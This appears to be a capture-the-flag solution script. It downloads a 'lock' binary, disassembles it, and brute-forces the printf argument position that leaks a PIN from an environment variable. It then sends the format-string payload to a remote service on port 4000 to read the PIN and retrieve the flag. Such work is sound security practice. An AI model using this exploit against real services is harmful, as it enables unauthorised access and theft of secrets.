#-- the lock and its program
cd /tmp && curl -s -o lock http://app:8081/lock && chmod +x lock && file lock
printf 'say hello\nsay %%p %%p\n' | nc -N -w 5 app 4000
strings lock | grep -i -e slots -e pin -e secrets
gdb -q -batch -ex 'disassemble serve' lock | grep -B 3 -A 3 getenv
#-- at home it takes words of ours: which of them is the PIN, and which argument of printf is that?
cd /tmp && cat > place.py <<'PY'
import os, re, subprocess
words = [f"a55a{number:012x}" for number in range(40)]
def run(lines):
    done = subprocess.run(["./lock"], input="".join(f"{line}\n" for line in lines), text=True,
                          capture_output=True, env={**os.environ, "SLOTS": " ".join(words)})
    return done.stdout
pin = next(word for word in words if "opens" in run([f"pin {word}"]))
for place in range(1, 90):
    if re.search(rf"> {pin}$", run([f"say %{place}$lx"]), re.M):
        print(place)
        break
PY
python3 place.py | tee place
#-- the same of a visit, and its PIN
cd /tmp && cat > visit.py <<'PY'
import socket
with socket.create_connection(("app", 4000), timeout=20) as line:
    talk = line.makefile("rw")
    line.sendall(f"say %{open('place').read().strip()}$lx\n".encode())
    talk.readline()
    pin = talk.readline().removeprefix("> ").strip()
    print("PIN", pin)
    line.sendall(f"pin {pin}\n".encode())
    print(talk.read())
PY
python3 visit.py | tee answer
grep -o 'flag{[0-9a-f]*}' answer
